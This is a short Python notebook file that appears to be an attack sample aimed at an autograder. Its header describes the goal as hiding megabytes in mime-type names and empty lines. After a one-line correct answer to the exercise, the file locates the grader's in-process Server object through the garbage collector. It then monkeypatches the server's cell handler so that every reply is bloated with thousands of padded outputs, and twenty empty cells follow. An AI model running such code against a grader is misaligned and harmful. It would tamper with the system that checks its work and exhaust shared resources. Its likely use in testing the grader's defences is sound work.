# /// attack
# tries = "hides megabytes where nobody counts: names of mime types, empty lines"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import gc

from autograder.inside import serve

server = next(thing for thing in gc.get_objects() if isinstance(thing, serve.Server))

# %%
from autograder.wire.values import encode


def cell(self, request, answered=serve.Server.cell):
    reply = answered(self, request)
    names = {f"{number:02}" + "m" * 198: "" for number in range(20)}
    items = [{"output_type": "display_data", "data": names}] * 300
    items += [{"output_type": "error", "traceback": [""] * 1000}] * 500
    items += [{"output_type": "stream", "text": ""}] * 1000
    return {**reply, "outputs": encode(items)}


serve.Server.cell = cell

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass

# %%
pass
